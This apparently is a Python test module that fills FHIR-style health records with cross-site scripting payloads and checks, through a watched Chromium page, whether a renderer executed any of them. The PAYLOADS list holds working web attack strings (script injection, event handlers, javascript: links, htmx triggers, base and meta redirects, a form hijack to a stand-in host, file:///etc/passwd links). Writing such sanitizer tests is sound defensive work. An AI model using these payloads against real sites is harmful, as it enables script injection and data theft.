"""What an attacker writes into a chart, and how to tell that a page took a word of it seriously.

Every text marks what it would make: an element with `data-pwn`, an address with `pwn`, a script
that sets `window.pwned`.
"""

from __future__ import annotations

import copy
from collections.abc import Iterable, Iterator, Mapping
from itertools import cycle
from typing import Any

PAYLOADS = (
    "<script data-pwn>window.pwned=1</script>",
    '"><img data-pwn src=x onerror="window.pwned=1">',
    "'><svg data-pwn onload='window.pwned=1'>",
    '" data-pwn onfocus="window.pwned=1" autofocus tabindex="1',
    "' data-pwn onmouseover='window.pwned=1",
    "`data-pwn onmouseover=window.pwned=1",
    " data-pwn onclick=window.pwned=1 ",
    "javascript:window.pwned=1//pwn",
    "data:text/html,<script>window.pwned=1</script>",
    "[pwn](javascript:window.pwned=1) ![pwn](https://pwn.example/x.png)",
    "<https://pwn.example/> https://pwn.example/a www.pwn.example pwn@pwn.example",
    '<div data-pwn hx-get="https://pwn.example/" hx-trigger="load" hx-target="body"></div>',
    '<div data-pwn hx-on:htmx:load="window.pwned=1" hx-post="save" hx-trigger="load"></div>',
    "</title></textarea></style></select></pre></script><script data-pwn>window.pwned=1</script>",
    '<iframe data-pwn srcdoc="<script>parent.pwned=1</script>"></iframe>',
    '<base data-pwn href="https://pwn.example/">',
    '<meta data-pwn http-equiv="refresh" content="0;url=https://pwn.example/">',
    '</form><form data-pwn action="https://pwn.example/"><input name="csrf_token">',
    '<a data-pwn href="javascript:window.pwned=1" id="main">pwn</a>',
    "{{ 7 * 7 }}{% raw %}${window.pwned=1}<!-- ]]> <![CDATA[ --!><b data-pwn>",
    "&lt;img data-pwn src=x onerror=window.pwned=1&gt;&#60;img data-pwn src=x&#62;",
    '<para><font color="red"><a href="file:///etc/passwd">pwn</a><img src="/etc/passwd"/></para>',
    "\u202e\u2066\ufeff\u2028\u0085\x7f\x1b[31m<b data-pwn>",
    "# pwn\n\n| a | b |\n|--|--|\n| <b data-pwn>x</b> | y |\n\n    code\n- [x] item",
)

# What the programs have to find again, or what cannot be typed.
_KEPT = frozenset(
    {
        "resourceType",
        "id",
        "reference",
        "status",
        "intent",
        "system",
        "code",
        "use",
        "type",
        "date",
        "start",
        "end",
        "created",
        "issued",
        "authoredOn",
        "birthDate",
        "recordedDate",
        "effectiveDateTime",
        "occurrenceDateTime",
        "versionId",
        "lastUpdated",
        "gender",
        "valueDate",
        "outcome",
        "linkId",
    }
)


def spoilt(
    resources: Iterable[Mapping[str, Any]], payloads: Iterable[str] = PAYLOADS
) -> list[dict[str, Any]]:
    """Copies with hostile text wherever a person or a system could have written some, and with
    narrative, notes, addresses and extensions that were not there."""
    nth = cycle(payloads)

    def walked(value: Any, key: str = "") -> Any:
        if isinstance(value, dict):
            return {k: walked(v, k) for k, v in value.items()}
        if isinstance(value, list):
            return [walked(v, key) for v in value]
        if not isinstance(value, str) or key in _KEPT or key.endswith(("Date", "DateTime")):
            return value
        return f"{value[:20]}{next(nth)}"

    found = []
    for resource in resources:
        made: dict[str, Any] = walked(copy.deepcopy(dict(resource)))
        made["text"] = {"status": "generated", "div": f"<div>{next(nth)}</div>"}
        made["note"] = [{"text": text} for text in payloads]
        made["implicitRules"] = next(nth)
        made["meta"] = {**made.get("meta", {}), "source": next(nth)}
        made["extension"] = [{"url": "javascript:window.pwned=1", "valueString": next(nth)}]
        found.append(made)
    return found


# What is wrong in a document, whatever its policy let through.
LOOK = """() => {
  const found = window.pwned === undefined ? [] : ["window.pwned is set"];
  for (const e of document.querySelectorAll("*")) {
    if (e.hasAttribute("data-pwn")) found.push("made: " + e.outerHTML.slice(0, 200));
    for (const a of e.attributes) {
      if (/^on/i.test(a.name)) found.push("handler: " + e.outerHTML.slice(0, 200));
      // An address of ours may carry what was typed, percent-encoded in its query.
      const own = /^\\/\\w[^?#]*\\?[\\w%+&=.~-]*$/.test(a.value) && !/^[^?]*pwn/.test(a.value);
      if (/^(data-)?hx-/i.test(a.name) && /pwn/.test(a.value) && !own)
        found.push("htmx: " + e.outerHTML.slice(0, 200));
      if (/^(href|src|action|formaction|xlink:href|srcdoc|data|poster|background)$/i.test(a.name)) {
        const to = a.value.trim();
        const odd = !/^(https?:|\\/|#|data:,$|[?.])/i.test(to) && /^[a-z]+:/i.test(to);
        const away = /^[a-z]+:[^?#]*pwn/i.test(to) || /^\\/\\//.test(to);
        if (odd || away) found.push("address: " + to);
      }
    }
  }
  return found;
}"""


class Watched:
    """A page of Chromium whose every frame and request is looked at."""

    def __init__(self, page: Any) -> None:
        self.page = page
        self.strayed: list[str] = []
        page.on("request", lambda request: self._asked(request.url))
        page.on("dialog", self._dialog)

    def _asked(self, url: str) -> None:
        if not url.startswith(("http://127.0.0.1:", "data:,", "about:")):
            self.strayed.append(url)

    def _dialog(self, dialog: Any) -> None:
        self.strayed.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def faults(self) -> Iterator[str]:
        """What any text of PAYLOADS became other than text."""
        yield from self.strayed
        try:
            for frame in self.page.frames:
                yield from frame.evaluate(LOOK)
        except Exception:  # playwright's own, when the page goes away meanwhile
            yield "the page was left"
